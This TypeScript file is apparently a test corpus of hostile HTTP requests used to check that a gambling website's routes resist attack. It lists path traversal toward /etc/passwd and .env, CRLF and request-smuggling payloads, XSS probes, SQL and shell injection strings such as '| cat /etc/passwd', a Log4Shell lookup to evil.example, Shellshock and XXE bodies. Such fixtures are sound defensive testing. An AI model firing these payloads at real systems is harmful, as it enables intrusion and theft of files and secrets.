// Longer than 250 lines because it is a corpus: every kind of hostile request beside the others. Data: no request depends on another.

/** A request that nobody sends who means well. Nothing of it is normalised on the way. */
export interface HostileRequest {
  readonly kind: string
  readonly method?: string
  /** As it stands in the request line. */
  readonly target: string
  /** Instead of the site's own host, for whose name {host} stands here and in headers. */
  readonly host?: string
  readonly headers?: readonly (readonly [name: string, value: string])[]
  readonly body?: string
  /** Breaks the protocol itself: the runtime may answer in the site's place, or close the connection. */
  readonly malformed?: true
}

/** What no answer may hold: as an element, out of an attribute, as a header or a cookie. */
export const marker = 'xq7'

const form = ['content-type', 'application/x-www-form-urlencoded'] as const
const json = ['content-type', 'application/json'] as const

const climbs = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '..%252f..%252fetc%252fpasswd',
  '..%5c..%5cwindows%5cwin.ini',
  '..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '..;/..;/manager/html',
  '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
  '%2e%2e%00/wrangler.toml',
  '.git/config',
  '.env',
  'wrangler.toml',
  'index.js.map',
  'node_modules/hono/package.json',
]
const traversal: readonly HostileRequest[] = [
  '/',
  '/assets/',
  '/img/',
  '/sitemaps/',
  '/~partytown/',
  '/manifest/',
].flatMap((folder) => climbs.map((climb) => ({ kind: 'traversal', target: folder + climb })))

const encodings: readonly HostileRequest[] = [
  '/%',
  '/%zz/',
  '/%e0%a4%a/',
  '/%ff%fe/',
  '/%00/',
  '/slots/%00book-of-dead/',
  '/slots/book-of-dead%00.html',
  '/%u0073lots/',
  '/sl%6fts/',
  '/%73%6c%6f%74%73/',
  '/slots%2fbook-of-dead/',
  '/slots%5cbook-of-dead/',
  '/slots/%e2%80%ae/',
  '/slots/%f0%9f%8e%b0/',
  '/slots/%ed%a0%80/',
  '/slots/?q=%',
  '/search/?q=%ff',
  '/search/?q=%ed%a0%80',
  '/search/?q=%00%00',
  '/search/?%',
  '/search/?=',
  '/search/?&&&&',
  '/search/?q[]=a&q[]=b',
  '/search/?q=a&q=b&q=c',
  `/search/?q=${'%F0%9F%8E%B0'.repeat(300)}`,
  `/${'a'.repeat(1025)}/`,
  `/${'a/'.repeat(600)}`,
  `/${'%61'.repeat(900)}/`,
  `/search/?q=${'a'.repeat(7000)}`,
  `/?${'a=1&'.repeat(1500)}`,
].map((target) => ({ kind: 'encoding', target }))

const hosts: readonly HostileRequest[] = [
  'evil.example',
  '{host}.evil.example',
  'evil.example#{host}',
  'evil.example/{host}',
  '{host}@evil.example',
  '{host}%00.evil.example',
  '{host}:99999',
  '{host}:abc',
  '[::1]',
  '0x7f.1',
  '169.254.169.254',
  'www.another.example',
  `${'a'.repeat(300)}.localhost`,
  'xn--uk-.localhost',
  '../{host}',
  '',
].map((host) => ({ kind: 'host', target: '/', host, malformed: true }))

const forwarded: readonly HostileRequest[] = (
  [
    ['x-forwarded-host', `${marker}.evil.example`],
    ['x-host', `${marker}.evil.example`],
    ['x-forwarded-server', `${marker}.evil.example`],
    ['forwarded', `host=${marker}.evil.example;proto=http`],
    ['x-original-url', '/ops/status'],
    ['x-rewrite-url', '/ops/status'],
    ['x-forwarded-proto', 'gopher'],
    ['x-forwarded-prefix', `//${marker}.evil.example`],
    ['x-http-method-override', 'DELETE'],
    ['x-forwarded-for', '127.0.0.1'],
    ['cf-connecting-ip', '<script>'],
    ['cf-ipcountry', `<${marker}>`],
    ['cf-ipcountry', 'A'.repeat(4000)],
    ['cf-region-code', `"><${marker} onx=1>`],
    ['cf-ray', `<${marker}>`],
    ['cf-worker', 'evil.example'],
    ['cdn-loop', 'cloudflare; cloudflare; cloudflare'],
  ] as const
).flatMap((header) => ['/', '/slots/'].map((target) => ({ kind: 'forwarded', target, headers: [header] })))

const headers: readonly HostileRequest[] = (
  [
    ['cookie', 'x'.repeat(6000)],
    ['cookie', Array.from({ length: 300 }, (_, at) => `c${at}=1`).join('; ')],
    ['cookie', `xconsent=<${marker}>`],
    ['cookie', 'xconsent=9999; xconsent=1111; xconsent='],
    ['cookie', `xtcl="><${marker} onx=1>`],
    ['cookie', 'xtcl=//evil.example/'],
    ['cookie', 'xtcl=__proto__'],
    ['cookie', 'xtcl=constructor'],
    ['cookie', 'xnoton=1; xnoton=2; ==;;;='],
    ['cookie', `xconsent=%3C${marker}%3E`],
    ['cookie', '__proto__=1; toString=2; hasOwnProperty=3'],
    ['accept-language', 'en,'.repeat(1500)],
    ['accept', '*/*,'.repeat(1500)],
    ['accept-encoding', 'gzip;q=9999999999999999999999'],
    ['if-none-match', '"a",'.repeat(1500)],
    ['if-none-match', 'W/"'],
    ['if-modified-since', 'not a date'],
    ['range', 'bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6,7-7'],
    ['range', `bytes=${'0-,'.repeat(1200)}`],
    ['user-agent', `<${marker}>`],
    ['user-agent', `\${jndi:ldap://evil.example/a}`],
    ['user-agent', '() { :; }; echo vulnerable'],
    ['sec-gpc', `<${marker}>`],
    ['referer', `https://evil.example/<${marker}>`],
    ['purpose', 'prefetch'],
    ['upgrade', 'websocket'],
    ['upgrade-insecure-requests', '1'],
    ['expect', '100-continue'],
    ['authorization', `Basic ${'A'.repeat(4000)}`],
    ['x-signature', 'f'.repeat(64)],
  ] as const
).flatMap((header) => ['/', '/ops/status'].map((target) => ({ kind: 'header', target, headers: [header] })))

const breaks = [
  '%0d%0ax-injected:%20xq7',
  '%0aset-cookie:%20xq7=1',
  '%0d%0a%0d%0a%3Cxq7%3E',
  '%e5%98%8a%e5%98%8dx-injected:xq7',
]
const smuggled: readonly HostileRequest[] = [
  ...['/', '/slots/', '/search/?q=', '/?gl=', '/?page=', '/bt/?bt=', '/SLOTS/', '/img/banners/?v='].flatMap((start) =>
    breaks.map((line) => ({ kind: 'smuggling', target: start + line })),
  ),
  ...(
    [
      [
        ['transfer-encoding', 'chunked'],
        ['content-length', '4'],
      ],
      [
        ['content-length', '5'],
        ['content-length', '6'],
      ],
      [['transfer-encoding', 'xchunked']],
      [
        ['transfer-encoding', 'chunked'],
        ['transfer-encoding', 'identity'],
      ],
      [['content-length', '-1']],
      [['content-length', '0x10']],
      [['content-length', '99999999999999999999']],
    ] as const
  ).map((given) => ({
    kind: 'smuggling',
    method: 'POST',
    target: '/api/consent/',
    headers: [form, ...given],
    body: '0\r\n\r\nGET /ops/status HTTP/1.1\r\nhost: evil.example\r\n\r\n',
    malformed: true as const,
  })),
]

const methods: readonly HostileRequest[] = [
  'TRACE',
  'PUT',
  'DELETE',
  'PATCH',
  'OPTIONS',
  'PROPFIND',
  'MKCOL',
  'LINK',
  'PURGE',
].flatMap((method) =>
  ['/', '/slots/book-of-dead/', '/api/voucher/', '/ops/purge', '/assets/none.js'].map((target) => ({
    kind: 'method',
    method,
    target,
    malformed: true as const,
  })),
)

const nested = (open: string, close: string, depth: number): string => open.repeat(depth) + close.repeat(depth)
const bodies = [
  [form, `code=${'a'.repeat(20_000)}`],
  [form, Array.from({ length: 3000 }, (_, at) => `a${at}=1`).join('&')],
  [form, `__proto__[x]=1&constructor[prototype][x]=1&culture=__proto__&list=toString&${marker}=1`],
  [form, `culture=en-GB&code=<${marker}>&email=<${marker}>&name="><${marker} onx=1>&list=blog`],
  [form, 'culture=en-GB&list=newsletter&consent=1&email=a%0d%0abcc:%20b@evil.example'],
  [form, '%=%&%ff=%00'],
  [json, nested('[', ']', 7000)],
  [json, nested('{"a":', '}', 2500)],
  [json, '{"__proto__":{"x":1},"constructor":{"prototype":{"x":1}}}'],
  [json, `{"path":"/<${marker}>","entries":[{"level":"error","message":"<${marker}>","data":"<${marker}>"}]}`],
  [json, '{"path":"//evil.example/","metrics":[{"name":"LCP","value":1e308,"rating":"good"}]}'],
  [json, 'null'],
  [json, '\u0000\u0001'],
  [json, '1e99999'],
  [['content-type', 'multipart/form-data; boundary=x'], '--x\r\nbroken'],
  [['content-type', 'multipart/form-data'], 'no boundary'],
  [
    ['content-type', 'multipart/form-data; boundary=x'],
    `${Array.from({ length: 150 }, (_, at) => `--x\r\ncontent-disposition: form-data; name="f${at}"; filename="../../a"\r\n\r\n1\r\n`).join('')}--x--`,
  ],
  [['content-type', 'application/xml'], '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
  [['content-type', 'text/plain'], 'culture=en-GB&code=1'],
  [['content-encoding', 'gzip'], 'not gzip at all'],
] as const satisfies readonly (readonly [readonly [string, string], string])[]
const posts: readonly HostileRequest[] = [
  '/api/voucher/',
  '/api/subscribe/',
  '/api/log/',
  '/api/vitals/',
  '/api/consent/',
  '/api/not-ontario/',
  '/api/csp-reports/',
  '/ops/purge',
  '/responsible-gaming/self-assessment/',
].flatMap((target) =>
  bodies.map(([header, body]) => ({ kind: 'body', method: 'POST', target, headers: [header], body })),
)

const outside = [
  '//evil.example/',
  '///evil.example/',
  '/\\evil.example/',
  '/%5cevil.example/',
  '/%2f%2fevil.example/',
  '//evil.example/%2f..',
  '//evil.example/..;/',
  '/.evil.example/',
  '/https:evil.example/',
  '/https://evil.example/',
  '/%09//evil.example/',
  '//EVIL.example//SLOTS',
  '//slots//evil.example',
]
const redirects: readonly HostileRequest[] = [
  ...outside.map((target) => ({ kind: 'redirect', target })),
  ...['next', 'url', 'return', 'returnUrl', 'redirect', 'continue', 'dest', 'page'].map((name) => ({
    kind: 'redirect',
    target: `/SLOTS?${name}=https://evil.example/`,
  })),
  ...[
    'https://evil.example/a',
    'javascript:alert(1)',
    '//evil.example/',
    'data:text/html,<xq7>',
    'https://{host}//evil.example/',
  ].flatMap((referer) =>
    ['/api/consent/', '/api/voucher/', '/api/not-ontario/', '/api/subscribe/'].map((target) => ({
      kind: 'redirect',
      method: 'POST',
      target,
      headers: [form, ['referer', referer] as const],
      body: 'culture=en-GB&choice=accept&list=blog&name=A&email=a@b.example',
    })),
  ),
]

const probes = [
  `"><${marker} onx=1>`,
  `'><${marker} onx=1>`,
  `</script><${marker}>`,
  `</title><${marker}>`,
  `<svg/onload=${marker}><${marker}>`,
  `" ${marker}=1 x="`,
  `javascript:${marker}//"><${marker}>`,
  `{{${marker}}}<${marker}>`,
]
const parameters = [
  'q',
  'page',
  'bt',
  'r',
  'gl',
  'dem',
  'token',
  'aname',
  'dl',
  'prid',
  'provider',
  'sort',
  'feature',
  'volatility',
  'slugs',
  'v',
]
/** Each text at the end of each address, as a browser would send it. */
const typed = (kind: string, texts: readonly string[], starts: readonly string[]): HostileRequest[] =>
  texts.flatMap((text) => starts.map((start) => ({ kind, target: start + encodeURIComponent(text) })))

const scripts: readonly HostileRequest[] = [
  ...parameters.flatMap((name) =>
    probes.map((probe) => ({
      kind: 'script',
      target: `${['q', 'page'].includes(name) ? '/search/' : name === 'bt' || name === 'r' ? '/' : '/slots/'}?${name}=${encodeURIComponent(probe)}`,
    })),
  ),
  ...['/', '/slots/', '/blog/', '/promotions/', '/payments/', '/img/', '/api/en-GB/games/', '/api/'].flatMap((start) =>
    probes.slice(0, 4).map((probe) => ({ kind: 'script', target: `${start}${encodeURIComponent(probe)}/` })),
  ),
  ...typed('script', probes, ['/blog/search/?q=', '/api/en-GB/bt-texts/?bt=', '/api/en-GB/game-cards/?slugs=']),
]

const statements = typed(
  'statement',
  [
    "' OR 1=1--",
    '1; DROP TABLE item',
    '" UNION SELECT * FROM meta--',
    '%',
    '_',
    '*',
    'a NEAR b',
    'a" OR "b',
    `\${7*7}`,
    '#{7*7}',
    '{{7*7}}',
    '; ls',
    '| cat /etc/passwd',
    '$(id)',
  ],
  ['/search/?q=', '/blog/search/?q=', '/slots/'],
)

const names: readonly HostileRequest[] = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'prototype',
].flatMap((name) =>
  [
    `/${name}/`,
    `/slots/${name}/`,
    `/api/${name}/winners/`,
    `/api/en-GB/games/${name}/`,
    `/sitemaps/${name}-pages-1.xml`,
    `/manifest/${name}.webmanifest`,
    `/?${name}=1&${name}[x]=1`,
  ].map((target) => ({ kind: 'name', target })),
)

const tokens: readonly HostileRequest[] = [
  '',
  '0',
  '9999999999.',
  `9999999999.${'0'.repeat(64)}`,
  `1795843379.${'f'.repeat(64)}`,
  `${'9'.repeat(400)}.a`,
  `-1.${'0'.repeat(64)}`,
].flatMap((token) =>
  ['/preview/promotions/welcome/', '/bt/'].map((path) => ({
    kind: 'token',
    target: `${path}?token=${token}`,
  })),
)

export const hostileRequests: readonly HostileRequest[] = [
  ...traversal,
  ...encodings,
  ...hosts,
  ...forwarded,
  ...headers,
  ...smuggled,
  ...methods,
  ...posts,
  ...redirects,
  ...scripts,
  ...statements,
  ...names,
  ...tokens,
]
